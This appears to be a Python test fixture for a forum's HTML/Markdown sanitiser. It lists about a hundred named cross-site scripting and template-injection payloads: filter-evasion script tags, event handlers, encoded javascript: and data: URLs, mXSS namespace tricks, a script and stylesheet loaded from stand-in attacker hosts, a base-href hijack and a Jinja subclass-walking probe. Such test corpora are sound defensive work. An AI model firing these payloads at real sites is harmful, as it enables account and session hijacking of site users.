"""The XSS corpus: what people actually try, in one list every XSS test types everywhere.

From the OWASP filter-evasion cheat sheet, PortSwigger's XSS cheat sheet and the mXSS papers:
script tags, event handlers, javascript:/vbscript:/data: URLs (raw and in Markdown links,
images, autolinks and references, with entities, control characters and mixed case), SVG
and MathML, frames and objects, styles, broken and unclosed markup, attribute and element
breakouts, navigation and re-basing, and template injection (shown as typed, never run).
Each payload is at most ``MAX_PAYLOAD`` characters, so it fits a forum title with a marker.
"""

from __future__ import annotations

MAX_PAYLOAD = 120

# (id, payload)
PAYLOADS = [
    # script tags
    ("script", "<script>alert(1)</script>"),
    ("script-upper-src", "<SCRIPT SRC=//xss.example/x.js></SCRIPT>"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-slash-attr", '<script/xss src="data:,alert(1)"></script>'),
    ("script-double-open", "<<script>alert(1);//<</script>"),
    ("script-unclosed", "<script>alert(document.cookie)"),
    ("script-charcode", "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>"),
    ("breakout-double-quote", '"><script>alert(1)</script>'),
    ("breakout-single-quote", "'><script>alert(1)</script>"),
    ("breakout-textarea", "</textarea><script>alert(1)</script>"),
    ("breakout-title", "</title><script>alert(1)</script>"),
    ("breakout-attr-event", '" onmouseover="alert(1)" x="'),
    ("breakout-unquoted", "x onfocus=alert(1) autofocus"),
    # images and SVG
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-upper", '<IMG SRC="x" ONERROR="alert(1)">'),
    ("img-javascript", "<IMG SRC=\"javascript:alert('XSS');\">"),
    ("img-unclosed", "<img src=x onerror=alert(1)//"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("video-source", '<video><source onerror="alert(1)"></video>'),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    # URLs in Markdown links, images and autolinks
    ("md-link-javascript", "[click me](javascript:alert(1))"),
    ("md-link-mixed-case", "[click me](JaVaScRiPt:alert(1))"),
    ("md-link-vbscript", "[click me](vbscript:msgbox(1))"),
    ("md-link-data", "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-link-entity-colon", "[click me](javascript&colon;alert(1))"),
    ("md-link-hex-entity", "[click me](&#x6A;avascript:alert(1))"),
    ("md-link-decimal-entities", "[click me](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))"),
    ("md-link-angle", "[click me](<javascript:alert(1)>)"),
    ("md-link-spaces", "[click me](  javascript:alert(1)  )"),
    ("md-link-control-char", "[click me](java\x01script:alert(1))"),
    ("md-link-tab", "[click me](java\tscript:alert(1))"),
    ("md-link-percent", "[click me](javascript:alert%281%29)"),
    ("md-link-title-breakout", '[ok](https://ok.example "x\\" onmouseover=\\"alert(1)")'),
    ("md-link-href-breakout", '[ok](https://ok.example" onmouseover="alert(1))'),
    ("md-link-html-text", "[<img src=x onerror=alert(1)>](https://ok.example)"),
    ("md-image-javascript", "![pic](javascript:alert(1))"),
    ("md-image-svg-data", "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("md-image-onerror-alt", '![x" onerror="alert(1)](https://ok.example/x.png)'),
    ("md-autolink-javascript", "<javascript:alert(1)>"),
    ("md-autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("md-autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    ("md-reference-javascript", "[click me][x]\n\n[x]: javascript:alert(1)"),
    ("md-reference-data", "[click me][x]\n\n[x]: data:text/html,<script>alert(1)</script>"),
    ("md-reference-entity", '[click me][x]\n\n[x]: &#x6A;avascript:alert(1) "title"'),
    ("md-code-block", "```\n<script>alert(1)</script>\n```"),
    ("md-inline-code", "`<img src=x onerror=alert(1)>`"),
    ("md-table-cell", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"),
    # raw HTML links, entities and mixed case
    ("a-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("a-entity-colon", '<a href="javascript&colon;alert(1)">x</a>'),
    ("a-hex-entity", '<a href="&#x6A;avascript:alert(1)">x</a>'),
    ("a-decimal-entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
    ("a-mixed-case", '<a HREF="JaVaScRiPt:alert(1)">x</a>'),
    ("a-tab-entity", '<a href="java&#x09;script:alert(1)">x</a>'),
    ("a-leading-control", '<a href=" &#14;  javascript:alert(1)">x</a>'),
    ("a-onclick", '<a href="https://ok.example" onclick="alert(1)">ok</a>'),
    ("pre-escaped", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("double-escaped", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    ("unicode-fullwidth", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("unicode-zero-width", "[click me](\u200bjavascript:alert(1))"),
    # frames, objects, styles
    ("iframe", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object", '<object data="javascript:alert(1)"></object>'),
    ("embed", '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("style-tag", '<style>body{background:url("javascript:alert(1)")}</style>'),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("style-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("style-url", '<p style="background-image:url(javascript:alert(1))">x</p>'),
    # event handlers on tags the sanitiser allows
    ("allowed-strong-event", '<strong onmouseover="alert(1)">bold</strong>'),
    ("allowed-blockquote-event", "<blockquote onclick=alert(1)>quote</blockquote>"),
    ("allowed-table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    ("allowed-td-event", "<table><tr><td onmouseover=alert(1)>x</td></tr></table>"),
    ("unknown-element", "<x onclick=alert(1)>click me</x>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("marquee", "<marquee onstart=alert(1)>x</marquee>"),
    # broken and unclosed markup
    ("nested-angle", "<<img src=x onerror=alert(1)>>"),
    ("tag-in-tag", "<div <script>alert(1)</script>>"),
    ("unclosed-a", '<a href="javascript:alert(1)"'),
    ("comment-trick", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    # namespace confusion (mXSS)
    ("mxss-math-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("mxss-svg-style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    ("mxss-math-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    ("mxss-noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("mxss-form-math", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    # navigation and re-basing
    ("base-href", '<base href="https://evil.example/">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("form-action", '<form action="javascript:alert(1)"><input type=submit></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">go</button>'),
    ("isindex", "<isindex action=javascript:alert(1) type=submit>"),
    # template injection: shown as typed
    ("jinja-arithmetic", "{{7*7}}"),
    ("jinja-config", "{{ config.items() }}"),
    ("jinja-mro", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("jinja-statement", "{% print(7*7) %}"),
    ("dollar-template", "${7*7} #{7*7} <%= 7*7 %>"),
]
PAYLOAD_IDS = [pid for pid, _ in PAYLOADS]
HARMLESS = "Plain words about a parcel that came late."
